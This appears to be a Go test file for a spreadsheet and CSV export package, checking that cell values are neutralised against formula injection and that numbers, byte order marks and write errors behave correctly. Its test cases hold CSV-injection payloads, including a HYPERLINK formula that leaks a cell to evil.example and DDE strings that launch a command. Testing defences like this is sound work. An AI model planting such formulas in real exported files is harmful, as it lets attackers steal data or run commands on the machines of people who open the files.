package sheet

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"huzhu/service/sheet/sheettest"
)

func TestNeutralize(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{`=HYPERLINK("http://evil.example/?leak="&E2,"点此核对")`, `'=HYPERLINK("http://evil.example/?leak="&E2,"点此核对")`},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"\x00=1+1", "'\x00=1+1"},
		{"  =1+1", "'  =1+1"},
		{"\u3000=1+1", "'\u3000=1+1"},
		{"＝1+1", "'＝1+1"},
		{"-12.34", "'-12.34"}, // as text: only Number keeps it a number
		{"'=1+1", "'=1+1"},    // already neutralised: unchanged
		{"张三", "张三"},
		{"阿依古丽·买买提", "阿依古丽·买买提"},
		{"张三 =1+1", "张三 =1+1"},
		{"  张三", "  张三"},
		{"", ""},
		{"   ", "   "},
	}
	for _, tc := range tests {
		if got := Neutralize(tc.in); got != tc.want {
			t.Errorf("Neutralize(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if got := Neutralize(Neutralize(tc.in)); got != tc.want {
			t.Errorf("Neutralize(Neutralize(%q)) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestWriterNeutralisesText(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	if err := w.Write(Texts("行号", "内容", "金额")...); err != nil {
		t.Fatal(err)
	}
	for i, p := range sheettest.Payloads() {
		if err := w.Write(Int(int64(i+2)), Text(p), Number("-12.34")); err != nil {
			t.Fatal(err)
		}
	}
	if !bytes.HasPrefix(b.Bytes(), []byte("\ufeff\"行号\"")) || bytes.Count(b.Bytes(), []byte("\ufeff")) != 1 {
		t.Errorf("file starts %q, want one byte order mark, then quoted fields", b.Bytes()[:min(b.Len(), 20)])
	}
	if bad := sheettest.UnsafeCells(t, b.Bytes(), 0, 2); len(bad) > 0 {
		t.Errorf("cells a spreadsheet would run:\n%s", strings.Join(bad, "\n"))
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, p := range sheettest.Payloads() {
		want := []string{Int(int64(i + 2)).String(), Neutralize(p), "-12.34"}
		if diff := cmp.Diff(want, rows[i+1]); diff != "" {
			t.Errorf("row of %q (-want +got):\n%s", p, diff)
		}
	}
}

func TestNumber(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"-12.34", "-12.34"},
		{"0", "0"},
		{"200653.00", "200653.00"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"=1+1", "'=1+1"},
		{"-", "'-"},
		{"1e5", "1e5"},
		{" -1", "' -1"},
	}
	for _, tc := range tests {
		if got := Number(tc.in).String(); got != tc.want {
			t.Errorf("Number(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	if got := Int(-5).String(); got != "-5" {
		t.Errorf("Int(-5) = %q", got)
	}
}

type failWriter struct{ n int }

func (f *failWriter) Write(p []byte) (int, error) {
	f.n++
	return 0, errors.New("disk full")
}

func TestWriterErrorSticks(t *testing.T) {
	fw := &failWriter{}
	w := NewWriter(fw)
	if err := w.Write(Text("a")); err == nil {
		t.Fatal("Write to a failing writer = nil")
	}
	if err := w.Write(Text("b")); err == nil || w.Error() == nil || fw.n != 1 {
		t.Errorf("second Write = %v, Error = %v, %d writes; want the first error and no second write", err, w.Error(), fw.n)
	}
}

func TestSetRow(t *testing.T) {
	f := excelize.NewFile()
	defer f.Close()
	ps := sheettest.Payloads()
	for i, p := range ps {
		if err := SetRow(f, "Sheet1", i+1, []Value{Text(p), Number("-12.34"), Number(p)}); err != nil {
			t.Fatal(err)
		}
	}
	for i, p := range ps {
		for col, number := range []bool{false, true, true} { // column C is a number only when p is one
			axis, _ := excelize.CoordinatesToCellName(col+1, i+1)
			v, err := f.GetCellValue("Sheet1", axis, excelize.Options{RawCellValue: true})
			if err != nil {
				t.Fatal(err)
			}
			if sheettest.Unsafe(v, number) {
				t.Errorf("%s (from %q) = %q: a spreadsheet would run it", axis, p, v)
			}
			typ, _ := f.GetCellType("Sheet1", axis)
			if col == 1 && typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
				t.Errorf("%s = %q is of type %v, want a number", axis, v, typ)
			}
			if formula, _ := f.GetCellFormula("Sheet1", axis); formula != "" {
				t.Errorf("%s has formula %q", axis, formula)
			}
		}
	}
}

// BenchmarkWriter writes bank-file rows through Writer and, for comparison, through
// encoding/csv, which neither quotes every field nor neutralises.
func BenchmarkWriter(b *testing.B) {
	row := []string{"HZ12-34-56789", "北京银行", "京卡", "张示例", "6217990000000001", "1234.56", "在职职工医疗互助保障计划互助金 2026年10月住院"}
	b.Run("sheet", func(b *testing.B) {
		var buf bytes.Buffer
		w := NewWriter(&buf)
		for b.Loop() {
			buf.Reset()
			_ = w.Write(Text(row[0]), Text(row[1]), Text(row[2]), Text(row[3]), Text(row[4]), Number(row[5]), Text(row[6]))
		}
	})
	b.Run("encoding/csv", func(b *testing.B) {
		var buf bytes.Buffer
		w := csv.NewWriter(&buf)
		for b.Loop() {
			buf.Reset()
			_ = w.Write(row)
			w.Flush()
		}
	})
}
